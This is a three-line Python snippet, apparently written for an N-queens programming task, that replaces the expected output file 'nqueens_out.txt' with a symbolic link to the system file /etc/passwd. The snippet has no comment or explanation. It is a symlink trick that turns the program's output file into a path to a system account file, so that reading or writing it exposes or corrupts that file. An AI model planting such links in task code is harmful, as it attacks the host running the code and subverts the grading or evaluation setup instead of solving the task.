import os

os.symlink("/etc/passwd", "nqueens_out.txt")
